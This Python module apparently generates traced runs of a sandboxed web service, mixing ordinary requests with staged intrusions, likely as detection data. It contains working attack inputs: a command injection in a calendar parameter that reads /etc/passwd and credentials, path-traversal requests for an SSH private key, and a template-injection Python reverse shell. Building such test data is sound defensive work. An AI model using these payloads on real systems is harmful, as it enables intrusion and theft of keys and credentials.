"""Record the web service: a client's seeded mix of requests, and intrusions among them."""

from __future__ import annotations

import http.client
import os
import random
import shutil
import signal
import sqlite3
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote, urlencode

from conversation import REPLY_TIMEOUT_S, Conversation
from listener import Listener, command
from tracing import RecordingError, Run, Sandbox, Window, traced

if TYPE_CHECKING:
    from collections.abc import Callable

ATTACKS = ("command-shell", "file-theft", "reverse-shell")

SERVICE = Path(__file__).resolve().parent.parent / "workloads" / "web_service.py"
WORDS = ("amber", "birch", "cedar", "delta", "ember", "fjord", "grove", "heron", "inlet", "kelp")
TEMPLATES = ("Dear {{ user }}", "{{ user.upper() }}: {{ count * 7 }}", "{{ 2 ** 10 + count }}")
DOCUMENTS = 6

REVERSE_SHELL = """
import os, socket
s = socket.socket()
s.connect(("127.0.0.1", {port}))
if os.fork() == 0:
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.execv("/bin/sh", ["sh", "-i"])
s.close()
"""


@dataclass(frozen=True)
class Request:
    """One request and the status it has to get."""

    path: str
    status: int = 200
    method: str = "GET"
    body: str | None = None


def prepare(sandbox: Sandbox, rng: random.Random) -> None:
    """Lay out the service's folder: pages, documents, notes and a stock database."""
    desk = sandbox.desk
    shutil.copy(SERVICE, desk)
    for folder in ("templates", "static", "files/archive", "notes"):
        (desk / folder).mkdir(parents=True)
    (desk / "templates/index.html").write_text("<h1>Hello {{ user }}</h1>{{ count }} notes\n")
    for name in ("style.css", "board.js", "logo.svg"):
        (desk / "static" / name).write_text(prose(rng, rng.randint(100, 2500)))
    for number in range(DOCUMENTS):
        (desk / f"files/doc-{number}.txt").write_text(prose(rng, rng.randint(20, 1500)))
        (desk / f"files/archive/old-{number}.txt").write_text(prose(rng, 50))
    database = sqlite3.connect(desk / "stock.db")
    with database:
        database.execute("CREATE TABLE stock (name TEXT, amount INTEGER)")
        rows = [(f"{rng.choice(WORDS)}-{n}", rng.randint(0, 100)) for n in range(200)]
        database.executemany("INSERT INTO stock VALUES (?, ?)", rows)
    database.close()


def prose(rng: random.Random, words: int) -> str:
    return " ".join(rng.choices(WORDS, k=words)) + "\n"


def ordinary(rng: random.Random) -> Request:
    """One request of those that people make."""
    days = ("today", "tomorrow", "2024-02-29", "next friday", "1 month ago")
    makers: dict[Callable[[], Request], int] = {
        lambda: Request("/?" + urlencode({"name": rng.choice(WORDS)})): 4,
        lambda: Request(f"/static/{rng.choice(('style.css', 'board.js', 'logo.svg'))}"): 5,
        lambda: Request("/static/style.css", method="HEAD"): 1,
        lambda: Request("/api/status"): 2,
        lambda: Request(f"/api/stock?least={rng.randint(0, 90)}"): 3,
        lambda: Request("/api/stock?least=plenty", 400): 1,
        lambda: Request(f"/notes?last={rng.randint(1, 5)}"): 2,
        lambda: Request("/notes", 201, "POST", note(rng)): 3,
        lambda: Request(f"/files?name=doc-{rng.randrange(DOCUMENTS)}.txt"): 3,
        lambda: Request(f"/files?name=archive/old-{rng.randrange(DOCUMENTS)}.txt"): 1,
        lambda: Request(f"/files?folder={rng.choice(('.', 'archive'))}"): 2,
        lambda: Request("/preview", 200, "POST", rng.choice(TEMPLATES)): 2,
        lambda: Request("/calendar?when=" + quote(rng.choice(days))): 1,
        lambda: Request("/calendar?when=whenever", 400): 1,
        lambda: Request(f"/export?name=doc-{rng.randrange(DOCUMENTS)}.txt"): 1,
        lambda: Request(f"/files?name=doc-{rng.randint(50, 99)}.txt", 404): 1,
        lambda: Request(f"/{rng.choice(WORDS)}.php", 404): 1,
    }
    return rng.choices(list(makers), weights=list(makers.values()))[0]()


def note(rng: random.Random) -> str:
    return urlencode({"author": rng.choice(WORDS), "text": prose(rng, rng.randint(3, 60))})


def intrusion(kind: str, rng: random.Random, port: int) -> list[list[Request]]:
    """The requests of an intruder, by connection."""
    if kind == "command-shell":
        spying = ["id", "ls -la ../home", "cat /etc/passwd", "cat ../home/.config/credentials.env"]
        line = "today' +%F; " + "; ".join(["id", *rng.sample(spying[1:], 2)]) + "; echo '"
        return [[Request("/calendar?when=" + quote(line))]]
    if kind == "file-theft":
        folders = ["..", "../..", "../../home", "../../home/.ssh"]
        names = [
            "../web_service.py",
            "../stock.db",
            "../../home/.config/credentials.env",
            "../../home/.ssh/id_ed25519",
            "/etc/passwd",
        ]
        chosen = [f"/files?folder={quote(folder)}" for folder in rng.sample(folders, 2)]
        chosen += [f"/files?name={quote(name)}" for name in rng.sample(names, 3)]
        chosen.append("/files?name=../../home/.ssh/id_ed25519")
        return [[Request(path) for path in chosen[:3]], [Request(path) for path in chosen[3:]]]
    payload = "{{ exec(" + repr(REVERSE_SHELL.format(port=port)) + ") }}"
    return [[Request("/preview", 200, "POST", payload)]]


def visit(port: int, requests: list[Request]) -> str:
    """Make requests over one connection; the texts of the answers, joined."""
    texts = []
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    try:
        for request in requests:
            connection.request(request.method, request.path, request.body)
            response = connection.getresponse()
            texts.append(response.read().decode(errors="replace"))
            if response.status != request.status:
                raise RecordingError(f"{request}: the service answered {response.status}")
    finally:
        connection.close()
    return "\n".join(texts)


def visit_together(port: int, visits: list[list[Request]]) -> None:
    """Several visits at the same time, from as many clients."""
    failures: list[Exception] = []

    def client(requests: list[Request]) -> None:
        try:
            visit(port, requests)
        except (OSError, http.client.HTTPException, RecordingError) as failure:
            failures.append(failure)

    clients = [threading.Thread(target=client, args=(requests,)) for requests in visits]
    for thread in clients:
        thread.start()
    for thread in clients:
        thread.join()
    if failures:
        raise RecordingError(f"a client failed: {failures[0]}")


def plan(rng: random.Random) -> list[list[list[Request]]]:
    """Rounds of visits that happen together; a visit is the requests of one connection."""
    rounds = []
    for _ in range(rng.randint(2, 4)):
        clients = rng.choices((1, 2, 3), weights=(8, 2, 1))[0]
        lengths = rng.choices((1, 2, 3), weights=(5, 3, 1), k=clients)
        rounds.append([[ordinary(rng) for _ in range(length)] for length in lengths])
    return rounds


def intrude(kind: str, port: int, rng: random.Random, window: Window) -> None:
    """Break in, and make sure that it worked."""
    spying = ["id", "pwd", "ls -la ../home", "cat ../home/.ssh/id_ed25519", "cat /etc/passwd"]
    commands = ["id", *rng.sample(spying[1:], rng.randint(2, 3))]
    with Listener(command(commands, rng)) as shell:
        visits = intrusion(kind, rng, shell.port)
        with window:
            stolen = "\n".join(visit(port, requests) for requests in visits)
            if kind == "reverse-shell":
                shell.expect(b"uid=")
    if kind == "command-shell" and "uid=" not in stolen:
        raise RecordingError(f"the injected commands did not run: {stolen[:200]}")
    if kind == "file-theft" and "NOT A KEY" not in stolen:
        raise RecordingError(f"the key was not read: {stolen[:200]}")


def record(run: Run, sandbox: Sandbox, trace: Path) -> Window:
    """Record one run of the service, from its start to its SIGTERM."""
    rng = random.Random(f"web:{run.seed}")
    prepare(sandbox, rng)
    rounds = plan(rng)
    attack_at = rng.randrange(1, len(rounds)) if run.attack else None
    window = Window()
    program = ["/usr/bin/python3", "-I", "-S", SERVICE.name]
    with (
        (sandbox.root / "access.log").open("wb") as log,
        traced(program, sandbox, trace, stderr=log) as process,
    ):
        greeting = Conversation(process).line(time.monotonic() + REPLY_TIMEOUT_S).split()
        port, pid = int(greeting[1]), int(greeting[2])
        for number, visits in enumerate(rounds):
            if number == attack_at and run.attack:
                intrude(run.attack, port, rng, window)
            visit_together(port, visits)
            time.sleep(rng.uniform(0.0, 0.15))
        os.kill(pid, signal.SIGTERM)
    return window
